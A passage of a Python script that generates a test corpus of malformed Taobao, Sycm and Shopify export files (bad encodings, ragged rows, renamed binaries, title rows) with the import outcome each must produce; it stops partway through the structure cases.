"""Build the robustness corpus: bad, odd and hostile shop exports, each with its expected outcome.

Run `python tests/corpus/make_corpus.py` to (re)write every committed file under
`tests/corpus/<group>/` and `tests/corpus/manifest.toml`. The output is deterministic (fixed zip
timestamps, no random numbers), so re-running it leaves `git status` clean unless a case changed.

Files too big to commit (huge lines, very wide and very long files, the DuckDB-sniffer cases
whose difference sits past row 20,000) are marked `generated = true` in the manifest and are built
at test time into a temporary folder with `build_generated(case_file, folder)`.

A case says what must happen when the file goes through `analytics.importer.import_file`:

- `accept`: imported; `kind` and `rows` (canonical rows stored) match; `checks` (SQL → value)
  hold on the workspace afterwards.
- `accept_notice`: as `accept`, and the import carries a notice (`notice` names its code when the
  code matters).
- `reject`: `InputRejected` is raised with problem `code`; `row`/`column`/`found` (or
  `sheet`/`cell`) are where the first problem is; the workspace digest is unchanged.

The base shapes follow real exports: Taobao/Tmall 生意参谋 (Sycm) traffic sources, a Taobao order
report, and Shopify's order export (order fields only on an order's first line).
"""

from __future__ import annotations

import csv
import gzip
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape as xml_escape

CORPUS = Path(__file__).resolve().parent
GROUPS = ("encoding", "structure", "values", "sizes", "malicious")
ZIP_TIME = (2024, 1, 8, 9, 0, 0)
SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

# ----------------------------------------------------------------------------------------------
# Cases


@dataclass
class Case:
    """One corpus file and what importing it must do (see the module docstring)."""

    file: str  # path under tests/corpus/, e.g. "encoding/gbk_traffic.csv"
    outcome: str  # accept | accept_notice | reject
    description: str
    data: bytes | None = None  # committed bytes; None when generated at test time
    name: str | None = None  # upload name when it differs from the file's base name
    kind: str | None = None
    rows: int | None = None
    checks: list[tuple[str, str]] = field(default_factory=list)  # (SQL, str(first cell))
    notice: str | None = None
    code: str | None = None
    row: int | None = None
    column: str | None = None
    found: str | None = None
    sheet: str | None = None
    cell: str | None = None
    options: dict[str, Any] = field(default_factory=dict)
    max_seconds: float | None = None  # time budget for the whole import attempt
    xfail: str | None = None

    @property
    def group(self) -> str:
        return self.file.split("/", 1)[0]

    @property
    def generated(self) -> bool:
        return self.data is None


CASES: list[Case] = []


def case(**kwargs: Any) -> Case:
    """Register a case (keyword arguments are `Case` fields)."""
    c = Case(**kwargs)
    if any(other.file == c.file for other in CASES):
        raise ValueError(f"duplicate corpus file {c.file}")
    CASES.append(c)
    return c


# ----------------------------------------------------------------------------------------------
# Base shapes

START = date(2024, 1, 1)
CHANNELS = ("手淘搜索", "手淘推荐", "关键词推广", "我的淘宝")
SYCM_TRAFFIC_HEADER = (
    "统计日期",
    "流量来源",
    "访客数",
    "商品访客数",
    "咨询人数",
    "下单买家数",
    "支付买家数",
    "支付金额",
)
EN_TRAFFIC_HEADER = ("Date", "Traffic source", "Visitors", "Paying buyers", "Total sales")


@dataclass
class Table:
    """A header and rows of text cells, plus the totals a correct import must reproduce."""

    header: list[str]
    rows: list[list[str]]
    visitors: int = 0
    pay_amount: Decimal = Decimal("0.00")

    def copy(self) -> Table:
        return Table(
            list(self.header), [list(r) for r in self.rows], self.visitors, self.pay_amount
        )


def traffic(
    days: int = 7,
    channels: Sequence[str] = CHANNELS,
    start: date = START,
    header: Sequence[str] = SYCM_TRAFFIC_HEADER,
) -> Table:
    """A Sycm 流量来源 table: one row per day × channel, values that are easy to total."""
    rows: list[list[str]] = []
    total_v = 0
    total_amount = Decimal("0.00")
    for d in range(days):
        day = start + timedelta(days=d)
        for c, channel in enumerate(channels):
            visitors = 1000 + 37 * d + 211 * c
            order_buyers = visitors // 25
            paying = order_buyers - (d + c) % 3
            amount = Decimal(paying * (89 + 10 * c)) + Decimal(d) / 2
            amount = amount.quantize(Decimal("0.01"))
            total_v += visitors
            total_amount += amount
            if len(header) == len(SYCM_TRAFFIC_HEADER):
                rows.append(
                    [
                        day.isoformat(),
                        channel,
                        str(visitors),
                        str(visitors * 6 // 10),
                        str(visitors // 20),
                        str(order_buyers),
                        str(paying),
                        f"{amount:.2f}",
                    ]
                )
            else:
                rows.append([day.isoformat(), channel, str(visitors), str(paying), f"{amount:.2f}"])
    return Table(list(header), rows, total_v, total_amount)


TB_ORDER_HEADER = (
    "订单编号",
    "买家会员名",
    "买家应付货款",
    "买家实际支付金额",
    "订单状态",
    "订单创建时间",
    "订单付款时间",
    "宝贝标题",
    "宝贝总数量",
    "退款金额",
)
TB_STATUSES = ("交易成功", "交易成功", "卖家已发货，等待买家确认", "等待买家付款", "交易关闭")


def tb_orders(n: int = 20) -> Table:
    """A Taobao 订单报表: 19-digit order ids (must stay text), status and payment times."""
    rows = []
    total = Decimal("0.00")
    for i in range(n):
        status = TB_STATUSES[i % len(TB_STATUSES)]
        created = f"2024-01-{1 + i % 7:02d} {8 + i % 12:02d}:{i * 7 % 60:02d}:05"
        paid = "" if status in ("等待买家付款", "交易关闭") else created[:-2] + "41"
        amount = Decimal(59 + 13 * i) + Decimal("0.90")
        if paid:
            total += amount
        rows.append(
            [
                str(3712345678901234000 + i * 7919),
                f"tb_buyer{i % 9:02d}",
                f"{amount:.2f}",
                f"{amount:.2f}" if paid else "0.00",
                status,
                created,
                paid,
                f"纯棉T恤 款式{i % 4}",
                str(1 + i % 3),
                "0.00",
            ]
        )
    return Table(list(TB_ORDER_HEADER), rows, 0, total)


SHOPIFY_HEADER = (
    "Name",
    "Email",
    "Financial Status",
    "Paid at",
    "Fulfillment Status",
    "Currency",
    "Subtotal",
    "Shipping",
    "Taxes",
    "Total",
    "Discount Amount",
    "Created at",
    "Lineitem quantity",
    "Lineitem name",
    "Lineitem price",
    "Lineitem sku",
    "Refunded Amount",
)


def shopify_orders(n: int = 12, product: str = "Cotton Tee") -> tuple[Table, int]:
    """A Shopify order export; every third order has a second line with order fields blank.

    Returns the table and the number of distinct orders.
    """
    rows = []
    for i in range(n):
        name = f"#{1001 + i}"
        created = f"2024-01-{1 + i % 7:02d} {9 + i % 10:02d}:15:00 +0800"
        status = "paid" if i % 4 else "pending"
        paid_at = created if status == "paid" else ""
        price = Decimal(20 + i)
        lines = [(product + " / M", 1, price)]
        if i % 3 == 0:
            lines.append(("Canvas Tote", 2, Decimal("7.50")))
        subtotal = sum(q * p for _, q, p in lines)
        for j, (item, qty, p) in enumerate(lines):
            first = j == 0
            rows.append(
                [
                    name,
                    f"customer{i % 5}@example.com" if first else "",
                    status if first else "",
                    paid_at if first else "",
                    "fulfilled" if first and status == "paid" else "",
                    "USD" if first else "",
                    f"{subtotal:.2f}" if first else "",
                    "5.00" if first else "",
                    "0.00" if first else "",
                    f"{subtotal + 5:.2f}" if first else "",
                    "0.00" if first else "",
                    created,
                    str(qty),
                    item,
                    f"{p:.2f}",
                    f"SKU-{i:03d}-{j}",
                    "0.00" if first else "",
                ]
            )
    return Table(list(SHOPIFY_HEADER), rows), n


# ----------------------------------------------------------------------------------------------
# Writers


def csv_text(
    header: Sequence[str] | None,
    rows: Iterable[Sequence[str]],
    delimiter: str = ",",
    newline: str = "\r\n",
) -> str:
    """Rows written the way Excel and the platforms write them (minimal quoting)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def csv_bytes(table: Table, encoding: str = "utf-8", **kwargs: Any) -> bytes:
    """`table` as CSV bytes in `encoding` ("utf-8-sig" adds the BOM)."""
    return csv_text(table.header, table.rows, **kwargs).encode(encoding)


def lines(*parts: str, newline: str = "\r\n") -> bytes:
    """Join literal lines (already delimited) into UTF-8 bytes."""
    return (newline.join(parts) + newline).encode("utf-8")


def col_letter(index: int) -> str:
    """0 → A, 25 → Z, 26 → AA."""
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


Cell = str | int | float | tuple  # ("f", formula, cached or None) | ("d", excel serial)


def sheet_xml(
    rows: Sequence[Sequence[Cell | None]], merged: Sequence[str] = (), doctype: str = ""
) -> str:
    """A worksheet part with inline strings, numbers, dates (style 1) and formulas."""
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', doctype]
    out.append(
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    for r, row in enumerate(rows, start=1):
        out.append(f'<row r="{r}">')
        for c, value in enumerate(row):
            ref = f"{col_letter(c)}{r}"
            if value is None:
                continue
            if isinstance(value, tuple) and value[0] == "f":
                cached = "" if value[2] is None else f"<v>{value[2]}</v>"
                out.append(f'<c r="{ref}"><f>{xml_escape(value[1])}</f>{cached}</c>')
            elif isinstance(value, tuple) and value[0] == "d":
                out.append(f'<c r="{ref}" s="1"><v>{value[1]}</v></c>')
            elif isinstance(value, tuple) and value[0] == "raw":
                out.append(f'<c r="{ref}" t="inlineStr"><is><t>{value[1]}</t></is></c>')
            elif isinstance(value, (int, float)):
                out.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                text = xml_escape(str(value))
                out.append(
                    f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
                )
        out.append("</row>")
    out.append("</sheetData>")
    if merged:
        out.append(f'<mergeCells count="{len(merged)}">')
        out.extend(f'<mergeCell ref="{m}"/>' for m in merged)
        out.append("</mergeCells>")
    out.append("</worksheet>")
    return "".join(out)


STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    "</cellXfs></styleSheet>"
)


def xlsx_bytes(
    sheets: dict[str, str],
    extra: dict[str, bytes | str] | None = None,
    macro: bool = False,
    shared_strings: str | None = None,
    workbook_doctype: str = "",
) -> bytes:
    """A minimal, valid workbook from worksheet XML parts (deterministic bytes)."""
    main_type = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if macro
        else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    )
    ws_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>']
    overrides.append(
        '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.styles+xml"/>'
    )
    if shared_strings is not None:
        overrides.append(
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
    sheet_entries, rels = [], []
    for i, name in enumerate(sheets, start=1):
        overrides.append(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{ws_type}"/>'
        )
        sheet_entries.append(f'<sheet name="{xml_escape(name)}" sheetId="{i}" r:id="rId{i}"/>')
        rels.append(
            f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'
        )
    n = len(sheets)
    rels.append(
        f'<Relationship Id="rId{n + 1}" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/styles" Target="styles.xml"/>'
    )
    if shared_strings is not None:
        rels.append(
            f'<Relationship Id="rId{n + 2}" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            + "".join(overrides)
            + "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            + workbook_doctype
            + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            "<sheets>" + "".join(sheet_entries) + "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(rels)
            + "</Relationships>"
        ),
        "xl/styles.xml": STYLES,
    }
    for i, xml in enumerate(sheets.values(), start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    parts.update(extra or {})
    return zip_bytes(parts)


def zip_bytes(parts: dict[str, bytes | str]) -> bytes:
    """Deflate `parts` into a zip with fixed timestamps."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, content.encode("utf-8") if isinstance(content, str) else content)
    return out.getvalue()


def table_xlsx(
    table: Table,
    title_rows: Sequence[Sequence[Cell | None]] = (),
    merged: Sequence[str] = (),
    numeric: bool = True,
) -> bytes:
    """One-sheet workbook of `table`; number-looking cells become numbers when `numeric`."""
    rows: list[list[Cell | None]] = [list(r) for r in title_rows]
    rows.append(list(table.header))
    for r in table.rows:
        rows.append([_number_or_text(v) if numeric else v for v in r])
    return xlsx_bytes({"Sheet1": sheet_xml(rows, merged)})


def _number_or_text(value: str) -> Cell:
    """Excel stores counts and amounts as numbers; ids and dates stay text here."""
    if value.isdigit() and len(value) < 10:
        return int(value)
    try:
        if "." in value and value.replace(".", "", 1).isdigit():
            return float(value)
    except ValueError:
        pass
    return value


def checks_traffic(table: Table, rows: int | None = None) -> list[tuple[str, str]]:
    """The row count, visitor total and exact payment total of an imported traffic table."""
    n = len(table.rows) if rows is None else rows
    return [
        ("select count(*) from traffic", str(n)),
        ("select sum(visitors)::bigint from traffic", str(table.visitors)),
        ("select sum(pay_amount) from traffic", f"{table.pay_amount:.2f}"),
    ]


# ----------------------------------------------------------------------------------------------
# encoding


def encoding_cases() -> None:
    t = traffic()
    ok = checks_traffic(t)
    common = dict(kind="traffic", rows=28, checks=ok)
    case(
        file="encoding/utf8_traffic.csv",
        outcome="accept",
        data=csv_bytes(t),
        description="UTF-8, no BOM",
        **common,
    )
    case(
        file="encoding/utf8_bom_traffic.csv",
        outcome="accept",
        data=csv_bytes(t, "utf-8-sig"),
        description="UTF-8 with BOM (Excel 'CSV UTF-8'): the BOM must not stick to 统计日期",
        **common,
    )
    case(
        file="encoding/utf16le_bom_traffic.txt",
        outcome="accept",
        data=b"\xff\xfe" + csv_text(t.header, t.rows, delimiter="\t").encode("utf-16-le"),
        description="UTF-16LE with BOM, tab-separated: Excel 'Unicode Text'",
        **common,
    )
    case(
        file="encoding/utf16be_bom_traffic.csv",
        outcome="accept",
        data=b"\xfe\xff" + csv_text(t.header, t.rows).encode("utf-16-be"),
        description="UTF-16BE with BOM",
        **common,
    )
    case(
        file="encoding/gbk_traffic.csv",
        outcome="accept",
        data=csv_bytes(t, "gbk"),
        description="GBK (Excel on Chinese Windows 'CSV (逗号分隔)'), decoded as GB18030",
        **common,
    )
    g = traffic(channels=("手淘搜索", "直播间🙂", "逛逛·䶮", "关键词推广"))
    case(
        file="encoding/gb18030_four_byte_traffic.csv",
        outcome="accept",
        data=csv_bytes(g, "gb18030"),
        description="GB18030 with four-byte sequences (emoji, CJK Ext-A) in channel names",
        kind="traffic",
        rows=28,
        checks=[
            *checks_traffic(g),
            ("select count(*) from traffic where channel = '直播间🙂'", "7"),
            ("select count(*) from traffic where channel = '逛逛·䶮'", "7"),
        ],
    )
    o = tb_orders()
    case(
        file="encoding/gbk_tb_orders.csv",
        outcome="accept",
        data=csv_bytes(o, "gbk"),
        description="Taobao 订单报表 in GBK; 19-digit order ids must stay exact text",
        kind="orders",
        rows=20,
        checks=[
            ("select count(*) from orders", "20"),
            ("select min(order_id) from orders", "3712345678901234000"),
            ("select count(*) from orders where length(order_id) = 19", "20"),
        ],
    )
    case(
        file="encoding/utf8_tb_orders_bom.csv",
        outcome="accept",
        data=csv_bytes(o, "utf-8-sig"),
        description="Taobao 订单报表 in UTF-8 with BOM",
        kind="orders",
        rows=20,
        checks=[("select count(*) from orders", "20")],
    )
    s, n_orders = shopify_orders(product="Café Crème Tee ☕")
    case(
        file="encoding/utf8_shopify_orders.csv",
        outcome="accept",
        data=csv_bytes(s, newline="\n"),
        description="Shopify order export, UTF-8, LF, accented and emoji product names",
        kind="orders",
        rows=n_orders,
        checks=[("select count(*) from orders", str(n_orders))],
    )
    big5 = traffic(
        header=(
            "統計日期",
            "流量來源",
            "訪客數",
            "商品訪客數",
            "諮詢人數",
            "下單買家數",
            "支付買家數",
            "支付金額",
        ),
        channels=("手淘搜尋", "手淘推薦", "關鍵詞推廣", "我的淘寶"),
    )
    case(
        file="encoding/big5_traffic.csv",
        outcome="reject",
        data=csv_bytes(big5, "big5"),
        description="Big5 (Traditional Chinese) bytes decode 'successfully' as GB18030 into"
        " mojibake (参璸ら戳…); only the header check can catch it",
        code="unrecognised_columns",
    )
    moj = t.copy()
    moj.header = [h.encode("gbk").decode("latin-1") for h in moj.header]
    case(
        file="encoding/gbk_read_as_latin1_saved_utf8.csv",
        outcome="reject",
        data=csv_bytes(moj),
        description="GBK header once opened as Latin-1/cp1252 and re-saved as UTF-8 (Í³¼ÆÈÕÆÚ):"
        " valid UTF-8, wrong text",
        code="unrecognised_columns",
    )
    moj2 = t.copy()
    moj2.header = [h.encode("utf-8").decode("gbk", errors="replace") for h in moj2.header]
    case(
        file="encoding/utf8_read_as_gbk_saved_gbk.csv",
        outcome="reject",
        data=csv_bytes(moj2, "gb18030"),
        description="UTF-8 header once opened as GBK and re-saved"
        " (缁熻鏃ユ湡 / 锟斤拷 style mojibake)",
        code="unrecognised_columns",
    )
    cp, _ = shopify_orders(product="Café Crème Tee")
    cp_bytes = csv_bytes(cp, "cp1252")
    case(
        file="encoding/cp1252_shopify_orders.csv",
        outcome="reject",
        data=cp_bytes,
        description="Shopify export re-saved by Excel as Windows-1252 (Café): no Latin-1/cp1252"
        " fallback, ever; the first bad byte is on line 2",
        code="bad_encoding",
        row=2,
    )
    gbk_shop, _ = shopify_orders(product="纯棉T恤")
    case(
        file="encoding/gbk_shopify_english_header.csv",
        outcome="reject",
        data=csv_bytes(gbk_shop, "gbk"),
        description="English (Shopify) header with GBK product names: GB18030 is only tried for"
        " profiles with CJK headers (R1)",
        code="bad_encoding",
        row=2,
    )
    bad = csv_text(t.header, t.rows).encode("utf-8")
    bad_lines = bad.split(b"\r\n")
    cut = "我的淘宝".encode()
    assert cut in bad_lines[20]
    bad_lines[20] = bad_lines[20].replace(cut, cut[:-1], 1)  # 宝 loses its last byte
    case(
        file="encoding/utf8_truncated_char_line21.csv",
        outcome="reject",
        data=b"\r\n".join(bad_lines),
        description="UTF-8 file with one multi-byte character cut short on line 21: neither valid"
        " UTF-8 nor a GB18030 file with a known header",
        code="bad_encoding",
        row=21,
    )
    gb = csv_bytes(t, "gbk")
    case(
        file="encoding/gbk_truncated_last_byte.csv",
        outcome="reject",
        data=gb.rstrip(b"\r\n") + b"\x81",
        description="GBK file whose last byte is a lone lead byte (a cut download)",
        code="bad_encoding",
        row=29,
    )
    case(
        file="encoding/utf16le_no_bom.csv",
        outcome="reject",
        data=csv_text(t.header, t.rows).encode("utf-16-le"),
        description="UTF-16LE without BOM: every other byte is NUL; valid 'UTF-8' but not text",
        code="binary_content",
    )
    case(
        file="encoding/utf32le_bom.csv",
        outcome="reject",
        data=csv_text(t.header, t.rows).encode("utf-32"),
        description="UTF-32LE with BOM (FF FE 00 00 starts like a UTF-16LE BOM)",
        code="binary_content",
    )
    case(
        file="encoding/shift_jis_japanese_header.csv",
        outcome="reject",
        data=csv_text(
            ["日付", "参照元", "訪問者数", "売上"], [["2024-01-01", "検索", "10", "100"]]
        ).encode("shift_jis"),
        description="Shift-JIS Japanese export: not UTF-8; GB18030 gives mojibake; no profile",
        code="unrecognised_columns",
    )
    en = traffic(header=EN_TRAFFIC_HEADER, channels=("Search", "Direct", "Social", "Email"))
    case(
        file="encoding/ascii_english_traffic.csv",
        outcome="accept",
        data=csv_bytes(en, "ascii"),
        description="Plain ASCII English traffic report (Date, Traffic source, Visitors …)",
        kind="traffic",
        rows=28,
        checks=checks_traffic(en),
    )


# ----------------------------------------------------------------------------------------------
# structure


def structure_cases() -> None:
    t = traffic()
    ok = checks_traffic(t)
    rows_ = [list(r) for r in t.rows]

    short = [list(r) for r in rows_]
    short[13] = short[13][:-1]  # physical line 15
    case(
        file="structure/ragged_short_row_line15.csv",
        outcome="reject",
        data=csv_text(t.header, short).encode(),
        description="line 15 has 7 fields instead of 8 (DuckDB pads NULL; pandas NaN)",
        code="ragged_row",
        row=15,
    )
    long = [list(r) for r in rows_]
    long[7] = [*long[7], "extra"]  # line 9
    case(
        file="structure/ragged_long_row_line9.csv",
        outcome="reject",
        data=csv_text(t.header, long).encode(),
        description="line 9 has 9 fields instead of 8",
        code="ragged_row",
        row=9,
    )
    text = csv_text(t.header, rows_).split("\r\n")
    text[11] = text[11].replace(
        "关键词推广", '"关键词推广', 1
    )  # line 12: quote opened, never closed
    case(
        file="structure/unterminated_quote_line12.csv",
        outcome="reject",
        data="\r\n".join(text).encode(),
        description="a quote opened on line 12 never closes: csv strict=False would swallow the"
        " rest of the file into one cell",
        code="unterminated_quote",
        row=12,
    )
    text = csv_text(t.header, rows_).split("\r\n")
    text[-2] = text[-2].replace("我的淘宝", '"我的淘宝', 1)
    case(
        file="structure/unterminated_quote_at_eof.csv",
        outcome="reject",
        data="\r\n".join(text).encode(),
        description="a quote opened on the last line (29) runs to end of file",
        code="unterminated_quote",
        row=29,
    )
    dup = t.copy()
    dup.header[3] = "访客数"
    case(
        file="structure/duplicate_header_visitors.csv",
        outcome="reject",
        data=csv_bytes(dup),
        description="two columns named 访客数: which one is visitors is a guess",
        code="duplicate_column",
        column="访客数",
    )
    trail = t.copy()
    trail.header.append("")
    trail.rows = [[*r, ""] for r in trail.rows]
    case(
        file="structure/trailing_empty_column.csv",
        outcome="accept",
        data=csv_bytes(trail),
        description="every line ends with a delimiter (an empty last column), as Excel often saves",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    emp = t.copy()
    emp.header.insert(2, "")
    emp.rows = [[*r[:2], "x", *r[2:]] for r in emp.rows]
    case(
        file="structure/empty_header_with_data.csv",
        outcome="accept_notice",
        data=csv_bytes(emp),
        description="a column with no header but data: ignored, and the user is told",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/header_only.csv",
        outcome="reject",
        data=csv_text(t.header, []).encode(),
        description="header line and nothing else",
        code="no_rows",
    )
    three_t = traffic(days=1, channels=CHANNELS[:2])
    case(
        file="structure/three_lines.csv",
        outcome="accept",
        data=csv_bytes(three_t),
        description="header + 2 rows (DuckDB's sniffer returns 0 rows for such files)",
        kind="traffic",
        rows=2,
        checks=checks_traffic(three_t),
    )
    two_t = traffic(days=1, channels=CHANNELS[:1])
    case(
        file="structure/two_lines_no_final_newline.csv",
        outcome="accept",
        data=csv_bytes(two_t).rstrip(b"\r\n"),
        description="header + 1 row, no newline at the end",
        kind="traffic",
        rows=1,
        checks=checks_traffic(two_t),
    )
    case(
        file="structure/one_column.csv",
        outcome="reject",
        data=lines("流量来源", *CHANNELS),
        description="a file of one column (a pasted list of channels)",
        code="unrecognised_columns",
    )
    nul = csv_text(t.header, rows_).encode()
    nul_lines = nul.split(b"\r\n")
    nul_lines[6] = nul_lines[6].replace(b",", b",\x00", 1)
    case(
        file="structure/nul_byte_line7.csv",
        outcome="reject",
        data=b"\r\n".join(nul_lines),
        description="a NUL byte in a cell on line 7 (a truncated or binary-patched file)",
        code="binary_content",
        row=7,
    )
    mixed = csv_text(t.header, rows_).split("\r\n")
    body = ""
    for i, ln in enumerate(mixed[:-1]):
        body += ln + ("\r\n", "\n", "\r")[i % 3]
    case(
        file="structure/mixed_line_endings.csv",
        outcome="accept",
        data=body.encode(),
        description="CRLF, LF and bare CR line endings mixed (files pasted together on two OSes)",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/gzip_renamed.csv",
        outcome="reject",
        data=gzip.compress(csv_bytes(t), mtime=0),
        description="a .csv.gz download renamed to .csv: content type is decided by magic bytes",
        code="unsupported_format",
    )
    case(
        file="structure/png_renamed.csv",
        outcome="reject",
        data=png_bytes(),
        description="a screenshot renamed .csv",
        code="unsupported_format",
    )
    case(
        file="structure/pdf_renamed.xlsx",
        outcome="reject",
        data=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        description="a PDF report renamed .xlsx",
        code="unsupported_format",
    )
    case(
        file="structure/xlsx_renamed.csv",
        outcome="accept",
        data=table_xlsx(t),
        description="a workbook saved with a .csv name: magic bytes say XLSX, and it is read"
        " as one",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/csv_named.xls",
        outcome="accept",
        data=csv_bytes(t, "gbk", delimiter="\t"),
        description="生意参谋-style '.xls' that is really GBK tab-separated text",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/zip_of_csv_named.xlsx",
        outcome="reject",
        data=zip_bytes({"traffic.csv": csv_bytes(t)}),
        description="a zip holding a CSV, renamed .xlsx: a zip, but not a workbook",
        code="unsupported_format",
    )
    title = [
        ["【生意参谋平台】流量-店铺来源"],
        ["统计时间：2024-01-01 ~ 2024-01-07"],
        [""],
    ]
    case(
        file="structure/sycm_title_rows.csv",
        outcome="accept",
        data=csv_text(None, [*title, t.header, *rows_]).encode("gbk"),
        description="Sycm title and period lines above the header (header on line 4), GBK",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    bad_title_rows = [list(r) for r in rows_]
    bad_title_rows[9][2] = "12a"
    case(
        file="structure/sycm_title_rows_bad_value_line14.csv",
        outcome="reject",
        data=csv_text(None, [*title, t.header, *bad_title_rows]).encode("gbk"),
        description="errors name the physical line (14), counting the title lines above the header",
        code="bad_value",
        row=14,
        column="访客数",
        found="12a",
    )
    nl = t.copy()
    nl.rows[2][1] = "淘内免费\n其他"  # a quoted cell spanning two physical lines (line 4-5)
    nl.rows[10][2] = "abc"  # data row 11 → physical line 13 (one extra line above)
    case(
        file="structure/embedded_newline_then_bad_value.csv",
        outcome="reject",
        data=csv_bytes(nl),
        description="a quoted cell spans two lines, so the bad value in data row 11 is on"
        " physical line 13, not 12",
        code="bad_value",
        row=13,
        column="访客数",
        found="abc",
    )
    tot = t.copy()
    tot.rows.append(["合计", "", str(t.visitors), "", "", "", "", f"{t.pay_amount:.2f}"])
    case(
        file="structure/totals_row_correct.csv",
        outcome="accept",
        data=csv_bytes(tot),
        description="a correct 合计 row at the end: dropped, not a channel",
        kind="traffic",
        rows=28,
        checks=[*ok, ("select count(*) from traffic where channel = '合计'", "0")],
    )
    wrong = t.copy()
    wrong.rows.append(["合计", "", str(t.visitors + 100), "", "", "", "", f"{t.pay_amount:.2f}"])
    case(
        file="structure/totals_row_mismatch.csv",
        outcome="accept_notice",
        data=csv_bytes(wrong),
        description="a 合计 row that disagrees with the sum of visitors: dropped, with a notice",
        kind="traffic",
        rows=28,
        checks=ok,
        notice="totals_mismatch",
    )
    case(
        file="structure/tab_separated.tsv",
        outcome="accept",
        data=csv_bytes(t, delimiter="\t"),
        description="tab-separated .tsv",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    semi = t.copy()
    semi.rows = [[*r[:-1], r[-1].replace(".", ",")] for r in semi.rows]
    case(
        file="structure/semicolon_decimal_comma.csv",
        outcome="reject",
        data=csv_bytes(semi, delimiter=";"),
        description="semicolon-separated with decimal commas (European Excel): '1234,50' is"
        " not a number ShopLens may guess at",
        code="bad_value",
        row=2,
        column="支付金额",
    )
    case(
        file="structure/semicolon_separated.csv",
        outcome="accept",
        data=csv_bytes(t, delimiter=";"),
        description="semicolon-separated, decimal points",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    blank = csv_text(t.header, rows_).split("\r\n")
    blank.insert(10, "")
    blank.insert(20, ",,,,,,,")
    case(
        file="structure/blank_lines_inside.csv",
        outcome="accept",
        data="\r\n".join(blank).encode(),
        description="an empty line and a line of only delimiters between data rows: skipped",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    rep = csv_text(t.header, rows_[:14]) + csv_text(t.header, rows_[14:])
    case(
        file="structure/concatenated_exports_header_repeated.csv",
        outcome="reject",
        data=rep.encode(),
        description="two exports pasted together: the header reappears as data on line 16",
        code="bad_value",
        row=16,
        column="统计日期",
        found="统计日期",
    )
    case(
        file="structure/unrelated_table.csv",
